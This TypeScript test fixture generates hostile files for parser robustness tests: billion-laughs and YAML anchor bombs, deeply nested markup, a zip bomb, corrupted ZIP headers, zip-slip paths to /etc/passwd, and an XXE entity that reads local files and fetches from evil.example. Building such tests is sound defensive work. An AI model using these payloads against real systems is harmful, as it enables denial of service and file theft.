/**
 * Files that ask for far more than they are: the inputs that are documented for each format, small on the disk. Whoever
 * reads one gives an answer or says why not, within a bounded time.
 */
import { strToU8, zipSync } from 'fflate';
import { pack } from '../../../server/exchange/parts/zip';

export interface HostileFile {
  /** Ends as the format does. */
  readonly name: string;
  readonly bytes: () => Uint8Array;
}

const text = (name: string, content: () => string): HostileFile => ({
  name,
  bytes: () => strToU8(content()),
});
const packed = (name: string, parts: () => Readonly<Record<string, string>>): HostileFile => ({
  name,
  bytes: () => pack(parts()),
});

const head = 'Ref,Element,Evidence,Owner,Assessor\n1.1.1,x,Survey,Jo,Compliant\n';

const sheet = (rows: string, more: Readonly<Record<string, string>> = {}) => ({
  'xl/workbook.xml': '<workbook xmlns:r="r"><sheets><sheet name="Plan" sheetId="1" r:id="rId1"/></sheets></workbook>',
  'xl/_rels/workbook.xml.rels': '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>',
  'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${rows}</sheetData></worksheet>`,
  ...more,
}); // prettier-ignore
const inline = (words: string): string => `<c t="inlineStr"><is><t>${words}</t></is></c>`;
const header = `<row r="1">${['Ref', 'Element', 'Evidence', 'Owner', 'Assessor'].map(inline).join('')}</row>`;

const ods = (rows: string, before = '') => ({
  'content.xml': `${before}<office:document-content><office:body><office:spreadsheet><table:table table:name="A">${rows}</table:table></office:spreadsheet></office:body></office:document-content>`,
}); // prettier-ignore
const odsCell = (words: string, more = ''): string =>
  `<table:table-cell ${more}><text:p>${words}</text:p></table:table-cell>`;
const odsRow = (cells: string, more = ''): string => `<table:table-row ${more}>${cells}</table:table-row>`;
const word = (body: string) => ({ 'word/document.xml': `<w:document><w:body>${body}</w:body></w:document>` });
const wordRow = (cells: string): string => `<w:tr>${cells}</w:tr>`;
const wordCell = (words: string, more = ''): string =>
  `<w:tc><w:tcPr>${more}</w:tcPr><w:p><w:r><w:t>${words}</w:t></w:r></w:p></w:tc>`;

/** Nine times nine times nine…: a billion, by references to what stands above. */
const laughs = (write: (name: string, before: string) => string): string =>
  Array.from('abcdefghi', (name, at) => write(name, at === 0 ? '' : ('abcdefghi'[at - 1] ?? ''))).join('');
const entities = `<!DOCTYPE x [${laughs((name, before) => `<!ENTITY ${name} "${(before === '' ? 'lol' : `&${before};`).repeat(9)}">`)}]>`;

const texts: readonly HostileFile[] = [
  text('marks.csv', () => head + '"'.repeat(200_000)),
  text('unclosed.csv', () => `${head}"${'a,'.repeat(100_000)}`),
  text('columns.csv', () => head + ','.repeat(300_000)),
  text('rows.csv', () => head + '\n'.repeat(300_000)),
  text('word.csv', () => `${head}1.1.2,${'W'.repeat(400_000)}`),
  text('tabs.txt', () => '\t""'.repeat(100_000)),
  text('spans.html', () => `<table>${'<tr><td colspan=1000000000 rowspan=65534>a'.repeat(3000)}</table>`),
  text('open.html', () => '<table><tr><td>'.repeat(20_000)),
  text('tags.html', () => '<'.repeat(300_000)),
  text('entities.html', () => `<table><tr><td>${'&'.repeat(300_000)}</table>`),
  text('attributes.html', () => `<table ${'a="'.repeat(100_000)}><tr><td>a</table>`),
  text('bars.md', () => `| Ref | Action |\n| - | - |\n${'|'.repeat(200_000)}`),
  text('links.md', () => `| Ref | Action |\n| - | - |\n| 1.1.1 | ${'![['.repeat(30_000)} |`),
  text('quotes.md', () => '>'.repeat(100_000)),
  text('outline.md', () => `${'#'.repeat(6)} 1.1 a\n`.repeat(5000)),
  text('laughs.yaml', () => `title: x\n${laughs((name, before) => `${name}: &${name} [${Array(9).fill(before === '' ? 'lol' : `*${before}`).join(', ')}]\n`)}children: *i\n`),
  text('circle.yaml', () => 'title: x\nchildren: &a [{ id: "1", children: *a }]\n'),
  text('deep.yaml', () => `title: x\nchildren: ${'['.repeat(20_000)}`),
  text('deeper.yaml', () => Array.from({ length: 1500 }, (_, at) => `${' '.repeat(at)}a:`).join('\n')),
  text('key.yaml', () => `? ${'k'.repeat(200_000)}\n: x\n`),
  text('questions.yaml', () => '? '.repeat(20_000)),
  text('anchors.yaml', () => `title: x\nlist:\n${'  - &a x\n  - *a\n'.repeat(10_000)}`),
  text('deep.json', () => '['.repeat(100_000)),
  text('catalog.json', () => `{"catalog":{"groups":${'[{"groups":'.repeat(5000)}`),
]; // prettier-ignore

const workbooks: readonly HostileFile[] = [
  packed('strings.xlsx', () => sheet(header + '<row><c t="s"><v>4294967295</v></c><c t="s"><v>-1</v></c><c t="s"><v>1e9</v></c><c t="s"><v>NaN</v></c></row>', { 'xl/sharedStrings.xml': '<sst count="4294967295" uniqueCount="4294967295"><si><t>a</t></si></sst>' })),
  packed('far.xlsx', () => sheet(`${header}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row><row r="99999999999"><c r="ZZZZZZ1"><v>1</v></c></row>`)),
  packed('empty-rows.xlsx', () => sheet(header + '<row/>'.repeat(200_000))),
  packed('merged.xlsx', () => sheet(`${header}</sheetData><mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(2000)}</mergeCells><sheetData>`)),
  packed('one-string.xlsx', () => sheet(header + '<row><c t="s"><v>0</v></c></row>'.repeat(15_000), { 'xl/sharedStrings.xml': `<sst><si><t>${'a'.repeat(30_000)}</t></si></sst>` })),
  packed('entities.xlsx', () => sheet(`${header}<row>${inline('&i;')}</row>`, { 'xl/sharedStrings.xml': `${entities}<sst><si><t>&i;</t></si></sst>` })),
  packed('deep.xlsx', () => sheet(header + '<x>'.repeat(100_000))),
  packed('styles.xlsx', () => sheet(header, { 'xl/styles.xml': `<styleSheet><cellXfs>${'<xf numFmtId="4294967295"/>'.repeat(50_000)}</cellXfs></styleSheet>` })),
  packed('format.xlsx', () => sheet(`${header}<row><c s="0"><v>1e308</v></c><c s="0"><v>-99999999</v></c></row>`, { 'xl/styles.xml': `<styleSheet><numFmts><numFmt numFmtId="164" formatCode="${'[$-809]d'.repeat(20_000)}"/></numFmts><cellXfs><xf numFmtId="164"/></cellXfs></styleSheet>` })),
  packed('repeated.ods', () => ods(odsRow('<table:table-cell table:number-columns-repeated="2147483647"/>', 'table:number-rows-repeated="2147483647"').repeat(500))),
  packed('repeated-words.ods', () => ods(odsRow(odsCell('a', 'table:number-columns-repeated="150"'), 'table:number-rows-repeated="1048576"'))),
  packed('spanned.ods', () => ods(odsRow(odsCell('a', 'table:number-columns-spanned="2147483647" table:number-rows-spanned="2147483647"')).repeat(2000))),
  packed('blanks.ods', () => ods(odsRow(odsCell('a<text:s text:c="2147483647"/>b').repeat(100)))),
  packed('negative.ods', () => ods(odsRow(odsCell('a', 'table:number-columns-repeated="-5"'), 'table:number-rows-repeated="-1"') + odsRow(odsCell('b', 'table:number-columns-repeated="NaN"')))),
  packed('entities.ods', () => ods(odsRow(odsCell('&i;')), entities)),
  packed('outside.ods', () => ods(odsRow(odsCell('&x;')), '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://evil.example/x"> %y;]>')),
  packed('deep.odt', () => ({ 'content.xml': `<office:document-content><office:body><office:text>${'<text:section>'.repeat(50_000)}` })),
  packed('spans.docx', () => word(`<w:tbl>${wordRow(wordCell('a', '<w:gridSpan w:val="2147483647"/>')).repeat(1000)}</w:tbl>`)),
  packed('merged.docx', () => word(`<w:tbl>${wordRow(wordCell('a', '<w:vMerge w:val="restart"/>'))}${wordRow(wordCell('', '<w:vMerge/>')).repeat(15_000)}</w:tbl>`)),
  packed('nested.docx', () => word('<w:tbl><w:tr><w:tc>'.repeat(3000))),
  packed('deep.docx', () => word('<w:sdt><w:sdtContent>'.repeat(30_000))),
]; // prettier-ignore

/** What a ZIP file says of itself, and is not. */
const lies: readonly (readonly [string, (bytes: Uint8Array, view: DataView, end: number) => Uint8Array])[] = [
  ['half', (bytes) => bytes.subarray(0, bytes.length / 2)],
  ['many', (bytes, view, end) => (view.setUint16(end + 10, 0xffff, true), bytes)],
  ['large', (bytes, view, end) => (view.setUint32(view.getUint32(end + 16, true) + 24, 0xffffffff, true), bytes)],
  ['nowhere', (bytes, view, end) => (view.setUint32(end + 16, 0xfffffff0, true), bytes)],
  ['zip64', (bytes, view, end) => (view.setUint32(view.getUint32(end + 16, true) + 20, 0xffffffff, true), view.setUint32(end + 12, 0xffffffff, true), bytes)],
  ['overlapping', (bytes, view, end) => (view.setUint32(view.getUint32(end + 16, true) + 42, 5, true), bytes)],
  ['method', (bytes, view, end) => (view.setUint16(view.getUint32(end + 16, true) + 10, 99, true), bytes)],
]; // prettier-ignore

const zips: readonly HostileFile[] = [
  { name: 'bomb.xlsx', bytes: () => zipSync(Object.fromEntries(Array.from({ length: 60 }, (_, at) => [`xl/worksheets/sheet${at}.xml`, new Uint8Array(1_000_000)]))) },
  { name: 'entries.xlsx', bytes: () => zipSync(Object.fromEntries(Array.from({ length: 5000 }, (_, at) => [`a${at}`, new Uint8Array(0)]))) },
  { name: 'slip.xlsx', bytes: () => zipSync({ '../../../etc/passwd': strToU8('x'), '/etc/passwd': strToU8('x'), 'C:\\x': strToU8('x'), 'xl/../../x': strToU8('x') }) },
  { name: 'itself.xlsx', bytes: () => zipSync({ 'a.xlsx': zipSync({ 'a.xlsx': new Uint8Array(1000) }) }) },
  ...lies.map(([name, change]): HostileFile => ({
    name: `${name}.xlsx`,
    bytes: () => {
      const bytes = pack(sheet(header));
      return change(bytes, new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength), bytes.length - 22);
    },
  })),
]; // prettier-ignore

export const hostileFiles: readonly HostileFile[] = [...texts, ...workbooks, ...zips];
